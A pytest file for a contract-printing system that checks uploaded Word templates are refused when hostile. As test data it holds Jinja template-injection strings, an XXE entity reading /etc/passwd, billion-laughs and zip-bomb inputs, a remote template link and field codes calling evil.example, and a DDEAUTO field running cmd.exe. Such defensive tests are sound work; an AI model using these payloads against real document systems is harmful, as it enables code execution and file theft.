"""An institution's template cannot run code, read files or reach the network, and leaves no word of a contract out."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from clc.kernel.errors import BadInput, NotAllowed
from clc.stages.contract.models import PaperTemplate
from clc.stages.contract.printing import checked, printed
from clc.stages.contract.services import templates
from clc.stages.hub.models import Party
from clc.stages.hub.reach import acting_as, as_system
from tests.stages.contract.signing_room import contract, drafted
from tests.stages.contract.templates import LINES, spoiled, template
from tests.stages.hub.people import House, build

LOOP = LINES[2:]
FIELD = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{0}</w:instrText></w:r>'
         '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
LINK = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
          '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>&b;</w:p></w:hdr>')
FILE = LAUGHS.replace('"ha"', 'SYSTEM "file:///etc/passwd"')


def field(told: str) -> bytes:
    return spoiled(template(), document=("<w:sectPr", "<w:p>" + FIELD.format(told) + "</w:p><w:sectPr"))


def test_a_harmless_template_is_taken() -> None:
    checked(template(), "loan", "zh")


@pytest.mark.parametrize("line", [
    "{{ ''.__class__.__mro__ }}", "{{ number.__class__ }}", "{{ number|upper }}", "{{ range(9) }}", "{% set x = 1 %}",
    "{% include 'x' %}", "{% import 'os' as o %}", "{{ self }}", "{{ lender() }}", "{{ 9**9**9 }}", "{{ clauses[0] }}",
    "{% for a in lender %}{% endfor %}", "{% for lender in clauses %}{% endfor %}", "{{ c.secret }}",
    "{{ 'x' * 999999999 }}",
    "{% macro m() %}{% endmacro %}", "{{ cycler }}", "{% if number == 'x' %}{% endif %}", "{{ unknown_name }}",
    "{% for c in clauses recursive %}{{ loop(c) }}{% endfor %}",
])
def test_a_template_that_computes_is_refused(line: str) -> None:
    with pytest.raises(BadInput, match="refused"):
        checked(template(line, *LOOP), "loan", "zh")


@pytest.mark.parametrize(("name", "content"), [
    ("word/vbaProject.bin", b"x"), ("word/embeddings/oleObject1.bin", b"x"), ("word/activeX/activeX1.xml", b"<x/>"),
    ("../outside.xml", b"<x/>"), ("/etc/passwd.xml", b"<x/>"), ("word/run.exe", b"x"), ("word/afchunk1.html", b"x"),
    ("word/header9.xml", LAUGHS.encode()), ("word/header9.xml", FILE.encode()), ("word/header9.xml", b"<x"),
    ("word/_rels/settings.xml.rels", LINK.encode()), ("word/header8.xml", b"<?xml version='1.0'?><?evil run?><x/>"),
    ("word/a.xml", ("<a>" * 3000 + "</a>" * 3000).encode()),
])
def test_a_part_that_could_run_fetch_or_swell_is_refused(name: str, content: bytes) -> None:
    with pytest.raises(BadInput, match="refused"):
        checked(spoiled(template(), {name: content}), "loan", "zh")


@pytest.mark.parametrize("told", ["INCLUDETEXT \"file:///etc/passwd\"", "DDEAUTO c:\\\\cmd.exe \"/c calc\"", "DDE x y",
                                  "INCLUDEPICTURE \"http://evil.example/x\"", "LINK Excel.Sheet x", "MACROBUTTON x y",
                                  "HYPERLINK \"http://evil.example\""])
def test_a_field_that_fetches_or_runs_is_refused(told: str) -> None:
    with pytest.raises(BadInput, match="fetches or runs"):
        checked(field(told), "loan", "zh")


def test_a_field_that_counts_pages_stays() -> None:
    checked(field("PAGE \\* MERGEFORMAT"), "loan", "zh")


def test_a_zip_bomb_is_refused_before_it_swells() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("word/document.xml", b"<x>" + b" " * (60 << 20) + b"</x>")
        bomb.writestr("[Content_Types].xml", b"<x/>")
    with pytest.raises(BadInput, match="swells"):
        checked(out.getvalue(), "loan", "zh")


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04", b"MZ" + b"x" * 99, b"%PDF-1.4", b"x" * (6 << 20)])
def test_what_is_no_word_file_is_refused(raw: bytes) -> None:
    with pytest.raises(BadInput, match="refused"):
        checked(raw, "loan", "zh")


def test_a_template_that_leaves_the_clauses_out_or_prints_them_twice_is_refused() -> None:
    twice = (LINES[2], "{{ c.zh }}", "{{ c.zh }}", LINES[5])
    for lines in (("{{ number }}",), (LINES[2], "{{ c.title_zh }}", LINES[5]), twice):
        with pytest.raises(BadInput, match="refused"):
            checked(template(*lines), "loan", "zh")


@pytest.mark.django_db
def test_a_confirmed_template_prints_the_contract_and_the_one_before_is_retired() -> None:
    house: House = build()
    held = contract(drafted(house))
    with acting_as(house.legal):
        first = templates.bring_template(by=house.legal, kind="loan", language="zh", name="a.docx", content=template())
        with pytest.raises(NotAllowed, match="does not confirm"):
            templates.confirm_template(by=house.legal, template=first)
    with as_system():
        PaperTemplate.objects.filter(pk=first.pk).update(by=house.manager)
    with acting_as(house.legal):
        templates.confirm_template(by=house.legal, template=first)
        version = held.versions.get(number=held.newest)
        with zipfile.ZipFile(io.BytesIO(printed(held, version, "zh"))) as parts:
            text = parts.read("word/document.xml").decode()
    assert text.count("壹仟贰佰万元整") == 1
    assert held.number in text


HOSTILE = "虚构\x0b{{ 7*7 }}<w:p/>\ufffe\x1f #eval(\"1\") {% for c in clauses %}"


@pytest.mark.django_db
@pytest.mark.parametrize("own", [False, True])
def test_words_with_code_tags_or_letters_that_cannot_be_printed_are_printed_as_words(own: bool) -> None:
    house: House = build()
    with as_system():
        Party.objects.filter(pk=house.mine.party_id).update(name=HOSTILE)
        house.mine.party.refresh_from_db()
        if own:
            PaperTemplate.objects.create(kind="loan", language="zh", name="a.docx", content=template(), state="in_use",
                                         size=1, sha256="0" * 64, by=house.legal, confirmed_by=house.manager)
    held = contract(drafted(house))
    with acting_as(house.legal):
        made = printed(held, held.versions.get(number=held.newest), "zh")
    text = "".join(docx.Document(io.BytesIO(made)).element.body.itertext())
    assert "{{ 7*7 }}<w:p/>" in text
